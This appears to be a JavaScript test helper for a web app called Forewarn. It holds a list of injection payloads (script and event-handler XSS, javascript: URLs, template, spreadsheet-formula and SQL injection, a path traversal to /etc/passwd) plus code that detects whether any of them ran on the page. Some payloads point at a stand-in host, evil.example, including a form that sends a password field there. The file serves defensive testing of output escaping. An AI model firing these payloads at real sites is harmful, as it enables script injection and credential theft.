// Texts that try to be more than text. If one of them ever runs, it asks for /payload-ran, opens a dialog, or marks the page.
const RUN = 'globalThis.payloadRan=1;fetch(`/payload-ran`);alert(1)';

/** Each of them is a name, a number or a note as far as Forewarn is concerned, and is shown as it was typed. */
export const PAYLOADS = [
  // Elements that run
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=/payload-ran></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=/payload-ran>`,
  `<img/src="x"/onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="/payload-ran"></object>`,
  `<embed src="/payload-ran">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  // Out of an attribute
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  '` onmouseover=`alert(1)',
  // Elements that change the page without a script
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=/payload-ran">',
  '<link rel=stylesheet href=/payload-ran>',
  '<link rel=prefetch href=//evil.example/x>',
  '<style>*{display:none!important}</style>',
  '<style>@import "/payload-ran";</style>',
  '<p style="position:fixed;inset:0;background:url(/payload-ran)">x</p>',
  '</main></body></html><h1>Signed out</h1>',
  '<form action="//evil.example"><input name=password>',
  '<plaintext>',
  // Addresses
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#10;script:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  '//evil.example/x',
  'https://evil.example/?q=<x>',
  // Entities, templates, formulas
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;b&amp;gt;',
  '{{ 7*7 }} {% include "x" %} ${7*7} #{7*7} <%= 7*7 %>',
  '{{constructor.constructor("alert(1)")()}}',
  `=HYPERLINK("https://evil.example","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `'; DROP TABLE promise; --`,
  '../../../../etc/passwd',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // Letters
  '\u202Etxt.exe\u202C',
  'a\u0301\u0323 \u{1F468}\u200D\u{1F469}\u200D\u{1F467} \uFB03',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u2028alert(1)\u2029',
  'Zal\u0310\u0311\u0312\u0313\u0314go',
];

/** Notes in `complaints` whatever a payload does in the pages of this context. */
export async function watchForPayloads(context, complaints) {
  context.on('dialog', (dialog) => {
    complaints.push(`a dialog opened: ${dialog.message()}`);
    dialog.dismiss();
  });
  context.on('request', (request) => {
    // Not in a query: a name may well stand in the address of a page about whoever has it.
    if (new URL(request.url()).pathname.includes('payload-ran')) complaints.push(`asked for ${request.url()}`);
  });
}

/** Fails if anything on the page has come out of a text. Returns what can be read on it, in fields too. */
export async function readPage(page, complaints) {
  const { ran, strange, text } = await page.evaluate(() => {
    const ours = (element, name) => element.getAttribute(name)?.startsWith('/assets/');
    const never = 'base, embed, iframe, object, style, marquee, math, plaintext, template, meta[http-equiv], isindex, noscript p';
    const strange = [...document.querySelectorAll(never)];
    strange.push(...[...document.querySelectorAll('script')].filter((one) => !ours(one, 'src')));
    strange.push(...[...document.querySelectorAll('link')].filter((one) => !ours(one, 'href')));
    for (const element of document.querySelectorAll('*')) {
      const odd = ({ name, value }) => name.startsWith('on') || name === 'style' || name === 'srcdoc'
        || (/^(href|src|action|formaction|xlink:href)$/.test(name) && !/^(\/(?!\/)|#|\?|tel:|mailto:|$)/.test(value));
      if ([...element.attributes].some(odd)) strange.push(element);
    }
    const fields = [...document.querySelectorAll('input:not([type=hidden]), textarea')].map((field) => field.value);
    return {
      ran: globalThis.payloadRan !== undefined,
      strange: strange.map((one) => one.cloneNode(false).outerHTML.slice(0, 200)),
      text: [document.body.textContent, ...fields].join('\n'),
    };
  });
  if (ran) complaints.push(`something ran on ${page.url()}`);
  for (const element of strange) complaints.push(`${page.url()} has ${element}`);
  return text;
}
